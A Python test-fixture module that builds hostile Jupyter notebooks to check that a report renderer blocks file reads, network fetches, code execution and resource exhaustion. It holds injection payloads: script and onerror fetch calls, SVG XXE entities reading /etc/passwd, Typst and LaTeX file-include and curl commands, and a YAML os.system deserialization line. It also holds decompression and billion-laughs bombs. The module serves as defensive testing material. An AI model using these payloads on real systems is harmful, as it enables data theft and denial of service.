"""Notebooks that try to read files, to fetch, to run code, to use up the machine, or are just broken.

``{site}`` in them stands for the address of a listener, ``{secret}`` for the path of a file that no report may show and
``{relative}`` for the same file as seen from the notebook's folder.
"""

import base64
import json
import struct
import zlib
from collections.abc import Callable
from typing import Any

from tests.unit.reports.samples import code, failed, frame_html, notebook, png, png_text, prose, shown

_TYPST = ('#read("{secret}")', '#image("{secret}")', '#include "{secret}"', '#import "{secret}": *', '#panic("run")')
_TYPST_ESCAPES = (
    '"#read("{secret}")',
    '\\"+read("{secret}")+\\"',
    '"); read("{secret}") //',
    ']#read("{secret}")[',
    "```#read```",
)
_LATEX = (
    r"\input{{secret}}",
    r"\include{{secret}}",
    r"\write18{curl {site}}",
    r"\text{#read('{secret}')}",
    r"\href{{site}}{x}",
)
_ASCIIDOC = "----\n\ninclude::{secret}[]\n\ninclude::{relative}[]\n\nimage::{site}/a.png[]\n\ninclude::{site}/a.adoc[]\n"


def _svg(inside: str, before: str = "", attributes: str = "") -> str:
    return (
        f'{before}<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="90" height="40"'
        f"{attributes}>{inside}<text x='5' y='20'>drawn</text></svg>"
    )


def _base64(inside: str) -> str:
    return base64.b64encode(_svg(inside).encode()).decode("ascii")


def _html(source: str) -> dict[str, Any]:
    return notebook(code(shown(text_html=source, text_plain="x")), prose(source))


def _bomb_png() -> str:
    """Says 4 by 3 pixels and inflates to 200 MB."""
    return base64.b64encode(png(4, 3, pixels=b"\x00" * 200_000_000)).decode("ascii")


def _wide_png(side: int) -> str:
    """Says that it is very large, with no pixels to match."""
    return base64.b64encode(png(side, side, pixels=b"\x00")).decode("ascii")


def _webp(side: int) -> str:
    size = (side - 1).to_bytes(3, "little")
    body = b"WEBPVP8X" + struct.pack("<I", 10) + bytes(4) + size + size
    return base64.b64encode(b"RIFF" + struct.pack("<I", len(body)) + body).decode("ascii")


def _image(kind: str, data: str) -> dict[str, Any]:
    return notebook(prose("before"), code(shown(**{f"image_{kind}": data})), prose("after"))


_LAUGHS = "".join(f'<!ENTITY a{level} "{f"&a{level - 1};" * 10}">' for level in range(1, 10))

#: name: what makes the notebook, as data or as the bytes of its file
HOSTILE: dict[str, Callable[[], dict[str, Any] | bytes]] = {
    # ---- files and addresses in Markdown, HTML, CSS and SVG
    "markdown pictures": lambda: notebook(
        prose("![a]({relative})\n\n![b]({secret})\n\n![c](file://{secret})\n\n![d]({site}/a.png)\n\n![e](//127.0.0.1/x.png)"),
        prose("![link](link.png) ![percent](%2e%2e/secret.png) ![null](a%00.png) ![attachment](attachment:no.png)"),
    ),
    "markdown reference and autolink": lambda: notebook(
        prose("[x]: {site}/a\n\n[x] <{site}/b> ![x][x]\n\n<img src={site}/c.png>")
    ),
    "html pictures": lambda: _html(
        '<img src="{site}/a.png"><img src="file://{secret}"><img src="{relative}"><img srcset="{site}/b.png 2x">'
        '<picture><source srcset="{site}/c.webp"><img src="{secret}"></picture><input type=image src="{site}/d.png">'
    ),
    "html pages and plugins": lambda: _html(
        '<iframe src="file://{secret}"></iframe><iframe src="{site}/a"></iframe><object data="{site}/b"></object>'
        '<embed src="{site}/c"><frame src="{site}/d"><link rel="stylesheet" href="{site}/e.css"><base href="{site}/">'
        '<meta http-equiv="refresh" content="0;url={site}/f"><video src="{site}/g" poster="{site}/h"></video>'
    ),
    "html scripts": lambda: _html(
        "<script src='{site}/a.js'></script><script>fetch('{site}/b')</script><img src=x onerror=\"fetch('{site}/c')\">"
        "<a href=\"javascript:fetch('{site}/d')\">x</a><svg onload=\"fetch('{site}/e')\"></svg>"
        "<body onload=\"fetch('{site}/f')\">"
    ),
    "css references": lambda: _html(
        "<style>@import url({site}/a.css); @font-face {font-family: x; src: url({site}/b.woff)}"
        " p {background: url({site}/c)} #x {background-image: url(file://{secret})}</style>"
        "<p id=x style=\"background: url('{site}/d'); color: red\">styled</p>"
        "<table background='{site}/e'><tr><td style='background: linear-gradient(90deg, red, url({site}/f))'>1</table>"
    ),
    "svg references": lambda: _image(
        "svg",
        _svg(
            '<image href="{site}/a.png" width="9" height="9"/><image xlink:href="file://{secret}" width="9" height="9"/>'
            '<use href="{site}/b.svg#x"/><rect fill="url({site}/c#d)" width="9" height="9"/><feImage href="{site}/e"/>'
            "<style>@import '{site}/f.css'; rect { fill: url({site}/g) }</style><script href='{site}/h.js'/>"
            '<foreignObject><iframe src="{site}/i"/></foreignObject><a href="javascript:x()"><rect/></a>'
        ),
    ),
    "svg entities": lambda: _image(
        "svg", _svg("&x;", before='<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file://{secret}">]>')
    ),
    "svg of a style sheet": lambda: _image(
        "svg",
        _svg("", before='<?xml version="1.0"?><?xml-stylesheet href="{site}/a.css"?><!DOCTYPE svg SYSTEM "{site}/b.dtd">'),
    ),
    "svg within html": lambda: _html(_svg('<image href="{site}/a.png"/>') + "<math><mtext><img src='{site}/b'></mtext></math>"),
    "svg in a data address": lambda: notebook(
        prose(f"![a](data:image/svg+xml;base64,{_base64('<image href=' + repr('file:///etc/passwd') + '/>')})")
    ),
    "attachment of another kind": lambda: notebook(
        {
            **prose("![a](attachment:a.png)"),
            "attachments": {"a.png": {"text/html": "<img src={site}/a>", "image/png": "file://{secret}"}},
        }
    ),
    # ---- code of the languages on the way
    "typst in prose": lambda: notebook(prose("# " + " ".join(_TYPST)), *(prose(text) for text in (*_TYPST, *_TYPST_ESCAPES))),
    "typst in outputs": lambda: notebook(
        *(code(shown(text_plain=text), failed(text, text, [text]), source=text) for text in (*_TYPST, *_TYPST_ESCAPES))
    ),
    "typst in tables and attributes": lambda: _html(
        "".join(
            f"<table><caption>{text}</caption><tr><th>{text}</th></tr><tr><td>{text}</td></tr></table>"
            f"<img src='{png_text()}' alt='{text}' title='{text}'><h2 id='{text}'>{text}</h2><a href='#{text}'>x</a>"
            f"<p style='color: {text}; font-size: {text}'>x</p>"
            for text in (*_TYPST, *_TYPST_ESCAPES)
        )
    ),
    "typst in formulas": lambda: notebook(*(prose(f"$\\text{{{text}}}$ $${text}$$") for text in (*_TYPST, *_TYPST_ESCAPES))),
    "typst in the metadata": lambda: notebook(
        prose('```{=typst}\n#read("{secret}")\n```\n\n```#read("{secret}")\nx\n```'),
        title='"#read("{secret}")',
        papermill={"parameters": {'"); #read("{secret}")': '#read("{secret}")'}, "end_time": '#read("{secret}")'},
        language_info={"name": '"+read("{secret}")+"'},
    ),
    "latex": lambda: notebook(
        *(prose(f"${text}$ $${text}$$") for text in _LATEX), code(*(shown(text_latex=f"${text}$") for text in _LATEX))
    ),
    "asciidoc": lambda: notebook(
        prose(_ASCIIDOC), code(shown(text_plain=_ASCIIDOC)), code(shown(text_html=f"<pre>{_ASCIIDOC}</pre>"))
    ),
    "quarto and raw cells": lambda: notebook(
        {"cell_type": "raw", "metadata": {}, "source": "---\ntitle: !!python/object/apply:os.system ['curl {site}']\n---"},
        {"cell_type": "raw", "metadata": {"raw_mimetype": "text/html"}, "source": "<script>fetch('{site}')</script>shown"},
        {"cell_type": "raw", "metadata": {"format": "text/latex"}, "source": r"\input{{secret}}"},
    ),
    "terminal sequences": lambda: notebook(
        code(shown(text_plain="\x1b]0;title\x07\x1b]8;;{site}\x1b\\link\x1b]8;;\x1b\\\x1b[2J\x1b[9999m" * 50))
    ),
    # ---- bombs
    "png that inflates": lambda: _image("png", _bomb_png()),
    "png of 10 gigapixels": lambda: _image("png", _wide_png(100_000)),
    "webp of 16 megapixels a side": lambda: _image("webp", _webp(1 << 24)),
    "svg of a billion laughs": lambda: _image("svg", _svg("&a9;", before=f'<!DOCTYPE svg [<!ENTITY a0 "ha">{_LAUGHS}]>')),
    "svg that uses itself": lambda: _image(
        "svg", _svg('<g id="a"><use href="#b"/><use href="#b"/></g><g id="b"><use href="#a"/></g>')
    ),
    "svg of endless size": lambda: _image(
        "svg", _svg("", attributes=' viewBox="0 0 1e30 1e30"').replace('width="90"', 'width="1e30"')
    ),
    "svg nested 20,000 deep": lambda: _image("svg", _svg("<g>" * 20_000 + "</g>" * 20_000)),
    "table of 200,000 cells": lambda: notebook(code(shown(text_html=frame_html(20_000, columns=10)))),
    "table of huge spans": lambda: _html("<table>" + "<tr><td colspan=99999 rowspan=99999>x</td></tr>" * 200 + "</table>"),
    "tables in tables": lambda: _html("<table><tr><td>" * 500 + "x" + "</td></tr></table>" * 500),
    "html nested 20,000 deep": lambda: _html("<div><b>" * 20_000 + "x"),
    "lists and quotes without end": lambda: notebook(
        prose("> " * 300 + "x"), prose("\n".join("  " * level + "- x" for level in range(300)))
    ),
    "style sheet of 10,000 rules": lambda: _html(
        "<style>"
        + "".join(f"td:not(:not(.a{n})) ~ td > p {{color: red}}" for n in range(10_000))
        + "</style><table><tr><td>x</td></tr></table>"
    ),
    "log of 20 MB on one line": lambda: notebook(
        code({"output_type": "stream", "name": "stdout", "text": "x" * 20_000_000}, shown(text_plain="y" * 5_000_000))
    ),
    "svg begun 20,000 times": lambda: _html("<svg " * 20_000 + "x"),
    "svg of doctypes without end": lambda: notebook(
        code(*(shown(image_svg="<svg>" + piece * 200_000) for piece in ("<!DOCTYPE ", "<?xml ")))
    ),
    "svg of addresses without end": lambda: notebook(
        code(
            *(shown(image_svg=_svg(f"<style>{piece * 100_000}</style>")) for piece in ("url(", "@import ", "url( ' ")),
            shown(image_svg=_svg(f'<rect fill="{"url(" * 100_000}"/>')),
        )
    ),
    "traceback of dashes": lambda: notebook(code(failed("E", "v", ["-" * 60_000 + "\nfoo\n"]))),
    "latex of brackets": lambda: notebook(
        code(*(shown(text_latex="x " + piece * 5_000) for piece in ("$", "$$", "\\[", "\\(")))
    ),
    "backspaces": lambda: notebook(code(shown(text_plain="ab\b" * 20_000 + "\b" * 20_000))),
    "markdown that invites backtracking": lambda: notebook(
        *(prose(piece * 1_500) for piece in ("[", "*a ", "_a_*", "`", "![", "<a ", "$x", "\\(", "|a", "> - ", "[a](", "&amp"))
    ),
    "formula without end": lambda: notebook(
        prose("$" + "{" * 3_000 + "x" + "}" * 3_000 + "$"), prose("$" + r"\frac{1}{" * 200 + "x" + "}" * 200 + "$")
    ),
    "5,000 cells": lambda: notebook(*([prose("x")] * 5_000)),
    "whole number of 100,000 digits": lambda: b'{"nbformat": ' + b"4" * 100_000 + b', "cells": []}',
    "json nested without end": lambda: b'{"cells": ' + b"[" * 500_000,
    # ---- broken
    "empty file": lambda: b"",
    "cut short": lambda: json.dumps(notebook(prose("x" * 1_000))).encode()[:500],
    "not utf-8": lambda: b'{"cells": [{"cell_type": "markdown", "source": "\xff\xfe"}]}',
    "a picture instead": lambda: png(),
    "broken base64": lambda: _image("png", "@@@=not base64"),
    "png cut short": lambda: _image("png", base64.b64encode(png(300, 200)[:80]).decode()),
    "text as a jpeg": lambda: _image("jpeg", base64.b64encode(b"\xff\xd8\xff" + b"text" * 100).decode()),
    "everything of the wrong kind": lambda: notebook(
        {
            "cell_type": "code",
            "outputs": [None, 5, {"output_type": "display_data", "data": {"image/png": [1], "text/html": {"a": 1}}}],
            "source": {"a": 1},
        },
        {"cell_type": "markdown", "source": [1, None, "x"], "attachments": 7, "metadata": "no"},
    ),
    "surrogates and controls": lambda: notebook(
        prose("\ud800 \x00 \x07 \ufffe \u202e turned \u2028"), code(shown(text_plain="\udfff\x00"))
    ),
    "compressed notebook": lambda: zlib.compress(b"x" * 1_000_000),
}
